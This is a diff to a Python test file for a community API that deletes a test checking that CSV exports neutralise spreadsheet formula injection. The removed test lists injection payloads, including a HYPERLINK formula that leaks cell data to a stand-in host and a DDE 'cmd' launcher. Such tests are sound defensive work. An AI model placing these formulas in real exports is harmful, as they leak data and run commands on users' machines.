@@ -3,8 +3,6 @@ clerk entries, merges, exports, and the figures after a restart."""
 
 from __future__ import annotations
 
-import csv
-import io
 import signal
 import sqlite3
 from collections.abc import AsyncIterator
@@ -230,26 +228,3 @@ async def test_a_moderator_revokes_a_staff_link(capi: CommunityApi) -> None:
     assert status_code(entry) == (401, "unauthorized")
     assert (await capi.ok(await capi.get(me, office)))["staff"]["role"] == "office"
 
-
-FORMULAS = ['=HYPERLINK("http://x/?"&A1,"详情")', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)", "＝1+1", "\t=1+1"]
-
-
-async def test_the_csv_export_runs_no_formula_in_a_spreadsheet(capi: CommunityApi) -> None:
-    """A cell a spreadsheet would evaluate is written with a quote in front (OWASP)."""
-    cid, _ = await new_community(capi)
-    sent: dict[str, str] = {}
-    for n, formula in enumerate(FORMULAS):
-        made = await capi.submit(cid, title=f"议题{n}", description="请处理", place=formula,
-                                 device=device(70 + n))
-        sent[(await capi.ok(made))["topic_id"]] = formula
-    response = await capi.get(f"/api/communities/{cid}/export.csv")
-    text = response.content.decode("utf-8-sig")
-    rows = {row["topic_id"]: row for row in csv.DictReader(io.StringIO(text))}
-    published = {tid: row for tid, row in rows.items() if tid in sent and row["place"]}
-    assert len(published) == len(FORMULAS), rows
-    for tid, row in published.items():
-        assert row["place"] == "'" + (await capi.topic(cid, tid))["place"], row
-    for row in rows.values():
-        for cell in row.values():
-            assert not cell or cell[0] not in "=+-@\t\r＝＋－＠", row
